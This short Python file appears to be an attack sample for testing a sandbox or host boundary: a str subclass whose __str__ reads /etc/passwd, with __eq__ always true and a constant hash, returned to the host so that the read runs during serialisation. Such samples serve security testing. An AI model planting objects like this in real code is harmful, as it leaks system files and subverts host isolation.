# mypy: ignore-errors
# Technique: object with `__eq__`/`__hash__`/`__str__` hooks returned to the host to run code
# during serialisation.
class Sneaky(str):
    def __str__(self):
        return open("/etc/passwd").read()

    def __eq__(self, other):
        return True

    def __hash__(self):
        return 0


def attack(secret_path, canary_path):
    return {Sneaky("k"): Sneaky("v")}
